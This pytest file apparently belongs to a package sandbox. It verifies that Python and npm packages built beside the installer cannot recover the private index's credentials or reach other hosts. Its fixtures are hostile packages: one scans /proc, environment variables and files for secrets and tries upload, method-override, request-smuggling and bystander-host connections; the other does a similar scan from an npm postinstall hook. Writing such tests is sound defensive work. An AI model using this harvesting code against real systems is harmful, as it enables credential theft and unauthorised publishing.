# SPDX-License-Identifier: Apache-2.0
"""test_index_credentials.py - A package that is built beside the installer, and wants the credentials of the index.

The index is a real one, over TLS, and requires them for every answer. The package reads everything that it can, and its findings
are judged here; the index itself reports the requests that it got.
"""
import base64
import urllib.parse

import pytest
from daemon_lib import deadline_alone

from box_lib import Box  # noqa: E402
from egress_lib import Resolver, Server, Web, certificate  # noqa: E402
from lib import landed  # noqa: E402
from package_lib import INDEX, install, pages, registry, sdist, tarball  # noqa: E402
from serve_lib import Daemon  # noqa: E402

USER, PASSWORD = "buyer-3b1c5d", "word-9f8e7a6b5c4d"
BASIC = base64.b64encode(("%s:%s" % (USER, PASSWORD)).encode()).decode()

# Everything that it can read: of every process, of every file that is not the image's own. It has the words it looks for
# backwards, so that it does not find itself.
SEARCH = """
    import glob, socket, ssl, urllib.error, urllib.request
    words = [w[::-1].encode() for w in %(words)r] + [b"caisson-secret-"]
    places = set(glob.glob("/proc/[0-9]*/*") + glob.glob("/proc/[0-9]*/task/*/*") + ["/etc/hosts", "/etc/resolv.conf", "/proc/mounts"])
    for top in ("/tmp", "/home", "/workspace", "/root", "/run", "/var", "/dev/shm", "/packages", "/package-dir"):
        for d, _, names in os.walk(top):
            places |= {os.path.join(d, n) for n in names}
    found = set()
    def look(where, text):
        for w in words:
            if w in text:
                found.add((where, w.decode()))
    for p in places:
        try:
            if p.split("/")[-1] not in ("kmsg", "mem", "pagemap", "clear_refs") and not os.path.isdir(p):
                fd = os.open(p, os.O_RDONLY | os.O_NONBLOCK)
                with os.fdopen(fd, "rb") as f:
                    look(p, f.read(1 << 22))
        except OSError:
            pass
    look("environ", repr(dict(os.environ)).encode())
    def attempt(what, f):
        nonlocal said
        try:
            said += what + "=%%s " %% f()
        except urllib.error.HTTPError as e:
            said += what + "=%%d " %% e.code
        except Exception as e:
            said += what + "=no "
    # It has what the installer has. With that it may read; not write, and nothing of it comes back.
    trust = ssl.create_default_context(cafile="/home/agent/.caisson/ca-bundle.pem") if os.path.exists("/home/agent/.caisson/ca-bundle.pem") else None
    user, word = os.environ.get("CAISSON_PIP_USER", ""), os.environ.get("CAISSON_PIP_PASSWORD", "")
    import base64
    head = {"Authorization": "Basic " + base64.b64encode((user + ":" + word).encode()).decode()}
    ask = lambda method, data=None, more={}: urllib.request.urlopen(urllib.request.Request("https://%(index)s/upload", data, {**head, **more}, method=method), timeout=5, context=trust).status
    attempt("put", lambda: ask("PUT", b"owned"))
    attempt("post", lambda: ask("POST", b"owned"))
    attempt("override", lambda: ask("GET", None, {"X-HTTP-Method-Override": "GET", "X_HTTP_Method": "PUT"}))
    attempt("body", lambda: ask("GET", b"PUT /upload HTTP/1.1\\r\\nHost: %(index)s\\r\\nContent-Length: 0\\r\\n\\r\\n"))
    attempt("port", lambda: socket.create_connection(("%(host)s", %(other)d), timeout=3))
    attempt("address", lambda: socket.create_connection(("127.0.0.1", %(other)d), timeout=3))
    attempt("host", lambda: socket.create_connection(("bystander.test", %(other)d), timeout=3))
    said += " ".join(sorted("%%s:%%s" %% f for f in found))
"""


hostile_test = deadline_alone(60)


class Shop:
    def __init__(self, where):
        files = where / "files"
        files.mkdir()
        cert = certificate(where, INDEX)
        self.bystander = Server(lambda c: c.recv(1))
        self.index = Web(directory=files, tls=cert, auth=("Basic " + BASIC,))
        place = "%s:%d" % (INDEX, self.index.port)
        sdist(files, "thief", SEARCH % {"words": [w[::-1] for w in (USER, PASSWORD, BASIC, urllib.parse.quote(PASSWORD, ""))], "index": place,
                                        "host": INDEX, "other": self.bystander.port})
        pages(files)
        tarball(files / "npm", "robber", scripts={"postinstall": "node rob.js"}, files={"rob.js": ROB, "index.js": "module.exports = require('fs').readFileSync(__dirname + '/said', 'utf8')"})
        registry(files / "npm", "https://%s/npm" % place)
        self.dns = Resolver({INDEX: ["127.0.0.1"], "bystander.test": ["127.0.0.1"]})
        urls = ["https://%s:%s@%s/%s" % (USER, PASSWORD, place, path) for path in ("simple", "npm")]
        self.daemon = Daemon(where, "--pool", "1", "--egress-dns", self.dns.address, "--egress-ca", cert[0], "--npm-scripts", "--package-timeout", "50s",
                             "--pip-index", urls[0], "--npm-registry", urls[1])

    def proved(self):
        return {value for _, head in self.index.heads for name, value in head.items() if name.lower() == "authorization"}

    def close(self):
        self.daemon.stop()
        for server in (self.index, self.bystander, self.dns):
            server.close()


# The same with npm: a script that is run beside it.
ROB = """
const fs = require('fs')
const words = %s.map((w) => w.split('').reverse().join('')).concat(['caisson-secret-'])
const found = new Set()
const look = (where, text) => words.forEach((w) => { if (text.includes(w)) found.add(where + ':' + w) })
const walk = (d) => { try { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = d + '/' + e.name; e.isDirectory() ? walk(p) : read(p) } } catch (e) {} }
const read = (p) => { try { look(p, fs.readFileSync(p, 'latin1')) } catch (e) {} }
for (const pid of fs.readdirSync('/proc').filter((n) => /^\\d+$/.test(n))) for (const name of ['cmdline', 'environ', 'comm', 'status']) read('/proc/' + pid + '/' + name)
for (const d of ['/tmp', '/home', '/workspace']) walk(d)
look('environ', JSON.stringify(process.env))
fs.writeFileSync('said', [...found].sort().join(' '))
""" % [w[::-1] for w in (USER, PASSWORD, BASIC)]


@pytest.fixture(scope="module")
def shop(tmp_path_factory):
    s = Shop(tmp_path_factory.mktemp("shop"))
    yield s
    s.close()


@pytest.mark.quick
def test_build_finds_no_credentials(shop):
    """The package is there, and the index got the right credentials: the control. Nowhere in the cell that it was built in are they."""
    r = install(shop.daemon, "thief", session_id="t")
    assert r.status == 200 and r.json["packages"][0]["built"], r
    assert shop.proved() == {"Basic " + BASIC}, "the index was asked with the right ones"
    said = shop.daemon.post("/execute", {"code": "import thief; print(thief.SAID)", "session_id": "t"}).json["stdout"]
    for word in (USER, PASSWORD, BASIC):
        assert word not in said, said
    landed([f for f in said.split() if "cmdline:caisson-secret-" in f], "it reads command lines: the placeholder is there")
    landed([f for f in said.split() if f.startswith("environ:caisson-secret-")], "and its environment")
    # With the placeholder it can publish nothing, and it reaches no other host, port or address.
    assert "put=403 post=403 override=403 body=403 port=no address=no host=no " in said, said
    assert shop.index.writes == [] and shop.bystander.peers == [] and "bystander.test" not in shop.dns.asked
    shop.daemon.end_session("t")


def test_npm_script_finds_no_credentials(shop):
    with Box(shop.daemon) as box:
        r = box.post("/packages", {"packages": ["robber"], "language": "javascript"})
        assert r.status == 200 and r.json["packages"][0]["built"], r
        said = box.post("/execute", {"code": "console.log(require('robber'))", "language": "javascript"}).json["stdout"]
    assert shop.proved() == {"Basic " + BASIC}
    for word in (USER, PASSWORD, BASIC):
        assert word not in said, said
    landed([f for f in said.split() if f.startswith("environ:caisson-secret-")], "it reads its environment: the placeholder is there")
